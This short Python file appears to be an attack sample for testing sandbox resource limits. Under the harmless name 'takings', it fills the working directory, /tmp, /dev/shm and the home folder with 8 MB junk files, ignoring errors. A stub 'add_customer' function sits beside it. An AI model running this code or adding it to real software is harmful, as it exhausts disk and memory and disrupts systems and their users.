"""Fill every folder that can be written to.

Class: disk and inodes
"""

from pathlib import Path


def takings(conn):
    block = b"x" * (8 << 20)
    for folder in (Path.cwd(), Path("/tmp"), Path("/dev/shm"), Path.home()):
        try:
            for number in range(40):
                (folder / f"kata-attack-{number}").write_bytes(block)
        except OSError:
            pass
    return None


def add_customer(engine, name):
    return None
